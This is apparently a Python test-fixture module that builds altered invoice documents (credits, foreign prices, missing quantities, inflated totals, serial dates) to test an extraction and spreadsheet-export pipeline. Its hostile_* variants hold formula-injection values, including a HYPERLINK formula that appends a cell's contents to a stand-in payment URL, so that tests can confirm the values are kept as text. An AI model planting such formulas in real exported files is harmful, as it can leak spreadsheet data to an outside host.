"""Documents made from others: lines that cannot be read, totals that are too high, text that a sheet could compute."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import date
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

    Data = dict[str, object]


@dataclass(frozen=True, slots=True, kw_only=True)
class DocumentVariant:
    """The document ``base`` with ``changes`` of what it prints.

    ``kind`` is that of its golden result; ``is_whole`` says that a reader may well read all of it. ``codes`` replaces
    the codes of its first items, ``items`` is how many of them there are.
    """

    base: str
    note: str
    kind: str = "doubtful"
    changes: Mapping[str, object] = field(default_factory=dict)
    is_whole: bool = False
    items: int | None = None
    codes: tuple[str, ...] = ()


GENERIC, CREATIVE, BOOKS = (
    "unknown_vendor",
    "creative_coop_without_number",
    "harpercollins_NS4435067",
)
GIFTS, PAPER, PAPER_SPLIT = (
    "onehundred80_1T25194476NCHR",
    "rifle_paper_3363053",
    "rifle_paper_J7XM9XQ3HB",
)
_BASES = {
    "creative_coop": CREATIVE,
    "harpercollins": BOOKS,
    "onehundred80": GIFTS,
    "rifle_paper": PAPER,
    "rifle_paper_split": PAPER_SPLIT,
    "generic": GENERIC,
}


def _line(
    base: str, of: str, note: str, *, number: str = "", items: int | None = None, **printed: str
) -> DocumentVariant:
    changes = {"printed": {of: printed}} | ({"number": number} if number else {})
    return DocumentVariant(base=base, note=note, changes=changes, items=items)


def _code(base: str, code: str, *, number: str, items: int = 3) -> DocumentVariant:
    return DocumentVariant(
        base=base,
        note="a code without a digit, and no total that would tell",
        items=items,
        codes=(code,),
        changes={"number": number, "without_total": True},
        is_whole=True,
    )


_LINES = {
    "credit_creative_coop": _line(
        CREATIVE,
        "DF5599",
        "a credit",
        number="CI004131901",
        items=5,
        shipped="-8",
        extended="-48.00",
    ),
    "foreign_currency_creative_coop": _line(
        CREATIVE, "DF5599", "a price in EUR", your_price="EUR 6.00"
    ),
    "unreadable_code_creative_coop": _code(CREATIVE, "GLASS-G", number="CI004131902", items=5),
    "credit_harpercollins": _line(BOOKS, "9780062883124", "a credit", quantity="-2", net="-9.00"),
    "foreign_currency_harpercollins": _line(
        BOOKS,
        "9780062883124",
        "a price in EUR",
        number="NS4435071",
        items=3,
        list_price="EUR 16.99",
        net="EUR 25.49",
    ),
    "missing_quantity_harpercollins": _line(BOOKS, "9780062883124", "no quantity", quantity=""),
    "credit_onehundred80": _line(
        GIFTS,
        "GZ1041",
        "a credit",
        number="NS4478121",
        items=3,
        quantity="-12",
        extended="-54.00",
    ),
    "foreign_currency_onehundred80": _line(
        GIFTS, "GZ1041", "a price in EUR", unit_price="EUR 4.50"
    ),
    "missing_quantity_onehundred80": _line(GIFTS, "GZ1041", "no quantity", quantity=""),
    "credit_rifle_paper": _line(
        PAPER, "CAL100", "a credit", number="3363061", items=3, quantity="-6", amount="-54.00"
    ),
    "foreign_currency_rifle_paper": _line(PAPER, "CAL100", "a price in EUR", unit_price="EUR 9.00"),
    "unreadable_code_rifle_paper": _code(PAPER, "FLORA", number="3363062"),
    "credit_rifle_paper_split": _line(
        PAPER_SPLIT, "STC014", "a credit", quantity="-4", amount="-$96.00"
    ),
    "foreign_currency_rifle_paper_split": _line(
        PAPER_SPLIT, "STC014", "a price in EUR", number="J7XM9XQ3HC", items=3, price="EUR 24.00"
    ),
    "unreadable_code_rifle_paper_split": _code(PAPER_SPLIT, "NPUG", number="J7XM9XQ3HD"),
    "credit_generic": _line(GENERIC, "008 TIN", "a credit", quantity="-12", amount="-117.00"),
    "credit_amount_generic": _line(
        GENERIC,
        "008 TIN",
        "a credit whose amount alone says so",
        number="MF-20421",
        amount="(117.00)",
    ),
    "foreign_currency_generic": _line(GENERIC, "008 TIN", "a price in EUR", unit_price="EUR 9.75"),
    "unreadable_code_generic": _code(GENERIC, "TIN-EVER", number="MF-20422"),
}
_TOTALS = {
    f"higher_total_{name}": DocumentVariant(
        base=base, note="the total counts a line that is not there", changes={"unprinted": "19.99"}
    )
    for name, base in _BASES.items()
}
_DECIMAL = {
    f"decimal_quantity_{name}": DocumentVariant(
        base=base,
        note=f"a quantity of {pieces}",
        items=items,
        changes=({"number": number} if number else {}) | {"printed": {code: {column: pieces}}},
        is_whole=True,
    )
    for name, base, code, column, pieces, items, number in (
        ("creative_coop", CREATIVE, "DF5599", "shipped", "8.00", 5, "CI004131903"),
        ("harpercollins", BOOKS, "9780062883124", "quantity", "3.00", 3, "NS4435072"),
        ("onehundred80", GIFTS, "GZ1041", "quantity", "12.00", 3, "NS4478122"),
        ("rifle_paper", PAPER, "CAL100", "quantity", "6.00", 3, "3363063"),
        ("rifle_paper_split", PAPER_SPLIT, "STC014", "quantity", "4.00", 3, "J7XM9XQ3HE"),
        ("generic", GENERIC, "008 TIN", "quantity", "12.00", None, ""),
    )
}
_SIGNS = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t=", "return": "\r="}


def _hostile(name: str, sign: str) -> DocumentVariant:
    """Vendor, number and codes begin with ``sign``; blanks are no text."""
    seen = sign.strip()
    link = f'{seen}HYPERLINK("https://pay.example/?"&B2,"Pay")'
    return DocumentVariant(
        base=GENERIC,
        kind="success",
        note=f"text that begins with {name}: no sheet may take it for a formula or a number",
        items=3,
        codes=(f"{seen}1001", f"{seen}A1001", f"{seen}2/3/2025"),
        changes={"vendor": link, "number": f"{seen}20419", "blank": sign.removesuffix(seen)},
    )


_TEXTS = {f"hostile_{name}": _hostile(name, sign) for name, sign in _SIGNS.items()} | {
    "leading_zeros": DocumentVariant(
        base=GENERIC,
        kind="success",
        note="a number and codes that begin with zeros: they are text",
        items=3,
        codes=("0012345", "007", "00E10"),
        changes={"number": "0012345"},
    ),
    "serial_date": DocumentVariant(
        base=GENERIC,
        kind="success",
        note="the date is printed as the serial number of a spreadsheet",
        items=3,
        changes={"number": "MF-20420", "date": date(2025, 1, 17), "date_printed": "45674"},
    ),
}
VARIANTS: dict[str, DocumentVariant] = _LINES | _TOTALS | _DECIMAL | _TEXTS


def apply(variant: DocumentVariant, base: Data) -> Data:
    """Return what the variant prints; ``base`` is what its base does."""
    data = base | dict(variant.changes)
    if variant.items is None:
        return data
    items = [list(item) for item in data["items"][: variant.items]]
    for item, code in zip(items, variant.codes, strict=False):
        item[data["columns"].index("code")] = code
    return data | {"items": items}
